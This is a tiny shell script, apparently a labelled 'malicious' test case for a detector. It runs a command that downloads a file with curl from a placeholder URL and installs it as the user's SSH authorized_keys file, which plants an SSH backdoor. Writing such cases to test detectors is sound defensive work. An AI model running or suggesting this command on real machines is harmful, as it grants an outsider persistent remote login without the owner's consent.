#!/bin/sh
# malicious: the same install of authorized_keys, but the key file was just downloaded by the same shell (curl then install)
. "$(dirname "$0")/../../lib.sh"
$B/puppet "curl -s -o /tmp/.k $URL/install.sh; install -m 600 /tmp/.k $H/.ssh/authorized_keys; rm -f /tmp/.k"
